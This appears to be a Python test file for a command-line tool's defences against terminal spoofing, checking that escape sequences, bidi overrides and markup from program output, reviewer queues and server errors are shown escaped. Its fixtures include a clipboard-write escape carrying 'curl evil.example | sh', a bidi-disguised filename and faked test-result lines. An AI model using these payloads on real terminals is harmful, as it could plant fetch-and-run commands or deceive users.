"""Terminal spoofing through the `yoyaku` command: a graded program's output, or text another
user wrote (a submission's question and skill in the review queue), carries escape sequences
(OSC 52 clipboard write, window title, screen clear, 8-bit CSI), bidirectional overrides,
carriage returns and rich markup. The command shows all of it escaped and literal; `logs
--raw` prints the program's output as received."""

from __future__ import annotations

import base64
import json
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User

from apps.submissions.models import Submission, SubmissionStatus
from tests.client.conftest import ROOT, Cli, token_for, write_files, yoyaku_command
from tests.factories.submissions import make_submission
from tests.factories.users import make_user

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
TITLE = "\x1b]0;yoyaku: all tests passed\x07"
CLEAR = "\x1b[2J\x1b[H"
CSI_8BIT = "\x9b31m"
OVERRIDE = "score: \u202e0.1\u202c"
PROGRAM = f"""
import json
import sys
sys.stdout.write({CLIPBOARD!r} + {TITLE!r} + "before clear\\n" + {CLEAR!r})
sys.stdout.write({CSI_8BIT!r} + "red?\\n" + {OVERRIDE!r} + "\\n")
sys.stdout.write("progress 10%\\rprogress 100%\\r\\nFAILED 3 tests\\rPASSED everything\\n")
sys.stdout.flush()
with open("metrics.json", "w", encoding="utf-8") as handle:
    json.dump({{"score": 0.5}}, handle)
"""
# What no escaped output may hold: ESC, BEL, CR, the 8-bit CSI, the bidi override.
TERMINAL_CONTROLS = ["\x1b", "\x07", "\r", "\x9b", "\u202e", "\u202c"]


@dataclass
class Raw:
    """What the command wrote, byte for byte (no newline translation: a CR stays a CR)."""

    code: int
    stdout: bytes
    stderr: bytes

    @property
    def out(self) -> str:
        return self.stdout.decode()

    @property
    def err(self) -> str:
        return self.stderr.decode()


def run(cli: Cli, *args: str) -> Raw:
    done = subprocess.run(
        [*yoyaku_command(), *args],
        env=cli.env(),
        capture_output=True,
        timeout=120,
        cwd=ROOT,
        check=False,
    )
    return Raw(done.returncode, done.stdout, done.stderr)


@pytest.fixture
def noisy_job(cli: Cli, grading: Any, tmp_path: Path) -> str:
    folder = write_files(tmp_path / "noisy", {"main.py": PROGRAM, "config.yaml": "a: 1\n"})
    submitted = cli.json("submit", str(folder), "--wait", "--timeout", "120")
    assert submitted["status"] == "completed", submitted
    return str(submitted["job_id"])


def assert_no_terminal_control(text: str) -> None:
    found = [c for c in TERMINAL_CONTROLS if c in text]
    assert found == [], f"{found!r} in {text!r}"


def test_logs_shows_a_programs_escape_sequences_escaped(cli: Cli, noisy_job: str) -> None:
    result = run(cli, "logs", noisy_job)

    assert result.code == 0, result.err
    assert_no_terminal_control(result.out)
    assert_no_terminal_control(result.err)
    out = result.out
    assert "\\x1b]52;c;" in out  # the clipboard write, visible and inert
    assert "\\x1b]0;yoyaku: all tests passed\\x07" in out
    assert "before clear\n\\x1b[2J\\x1b[H" in out
    assert "\\x9b31mred?" in out
    assert "score: \\u202e0.1\\u202c" in out
    # A carriage return shows as a line break: no frame overwrites another.
    assert "progress 10%\nprogress 100%\nFAILED 3 tests\nPASSED everything\n" in out


def test_logs_raw_prints_the_output_as_received(cli: Cli, noisy_job: str) -> None:
    result = run(cli, "logs", noisy_job, "--raw")

    assert result.code == 0, result.err
    for sequence in (CLIPBOARD, TITLE, CLEAR, CSI_8BIT, OVERRIDE):
        assert sequence in result.out
    assert "progress 10%\rprogress 100%\r\nFAILED 3 tests\rPASSED everything\n" in result.out


def test_logs_follow_escapes_too_and_json_is_exact(cli: Cli, noisy_job: str) -> None:
    follow = run(cli, "logs", noisy_job, "--follow", "--interval", "0.2")
    assert follow.code == 0, follow.err
    assert_no_terminal_control(follow.out)
    assert_no_terminal_control(follow.err)
    assert "\\x1b]52;c;" in follow.out
    assert "progress 10%\nprogress 100%\nFAILED 3 tests\nPASSED everything\n" in follow.out

    document = run(cli, "logs", noisy_job, "--json")
    assert document.code == 0
    assert_no_terminal_control(document.out)  # JSON writes \\u001b
    logs = json.loads(document.out)["logs"]
    assert CLIPBOARD in logs
    assert "progress 10%\rprogress 100%\r\n" in logs


def test_the_review_queue_shows_another_users_text_literally(cli: Cli, researcher: User) -> None:
    """A submitter writes the question and skill a reviewer's terminal will show."""
    make_submission(
        owner=researcher,
        status=SubmissionStatus.REVIEW_PENDING,
        question_id="q\x1b]0;t\x07",
        skill="[link=x]s[/link]:warning:\x1b[2J\u202e",
    )
    reviewer = cli.as_user(token_for(make_user(username="rita", reviewer=True)))

    result = run(reviewer, "review", "queue")

    assert result.code == 0, result.err
    assert_no_terminal_control(result.out)
    assert "\\x1b]0;t\\x07" in result.out
    assert "[link=x]s[/link]:warning:\\x1b[2J\\u202e" in result.out  # no markup, no emoji
    assert "\x1b]8;" not in result.out  # no hyperlink was drawn


class _HostileApi(BaseHTTPRequestHandler):
    """A server (or anything between) that answers every request with an error body whose
    text and field messages carry escape sequences and markup."""

    def do_GET(self) -> None:
        body = json.dumps(
            {
                "success": False,
                "code": "invalid_request",
                "error": "bad \x1b]52;c;Y3VybA==\x07 [blink]input[/blink]\r\x1b[2J",
                "fields": {"job\x1b[31m": ["\x9b2J \u202egnp.py"]},
            }
        ).encode()
        self.send_response(HTTPStatus.BAD_REQUEST)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileApi)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def test_error_messages_from_the_server_are_shown_escaped(cli: Cli, hostile_api: str) -> None:
    result = run(cli.via(hostile_api), "job", "0" * 32)

    assert result.code == 1
    assert_no_terminal_control(result.err)
    assert_no_terminal_control(result.out)
    assert "bad \\x1b]52;c;Y3VybA==\\x07 [blink]input[/blink]" in result.err
    assert "\\x1b[2J" in result.err
    assert "job\\x1b[31m: \\x9b2J \\u202egnp.py" in result.err


def test_submit_refuses_a_disguised_local_name_before_sending_and_shows_it_escaped(
    cli: Cli, tmp_path: Path
) -> None:
    folder = write_files(
        tmp_path / "disguised",
        {"main.py": "print(1)\n", "config.yaml": "a: 1\n", "invoice\u202egnp.py": "x = 1\n"},
    )

    result = run(cli, "submit", str(folder))

    assert result.code == 1, result.err
    assert "refused before sending anything" in result.err
    assert "invoice\\u202egnp.py" in result.err
    assert "U+202E" in result.err
    assert_no_terminal_control(result.err)
    assert Submission.objects.count() == 0


def test_an_id_holding_escape_sequences_is_sent_as_data_and_shown_escaped(cli: Cli) -> None:
    """A pasted id with ESC or URL syntax in it never becomes a traceback or a different URL:
    the client refuses it as malformed before any request (exit 2) and shows it inert."""
    for hostile in (CLEAR + "abc", "abc?format=csv#x", "a b\tc"):
        done = run(cli, "job", hostile)
        assert done.code == 2, done.err
        assert "Traceback" not in done.err
        for control in TERMINAL_CONTROLS:
            assert control not in done.out + done.err
        assert "is not a job id" in done.err, done.err
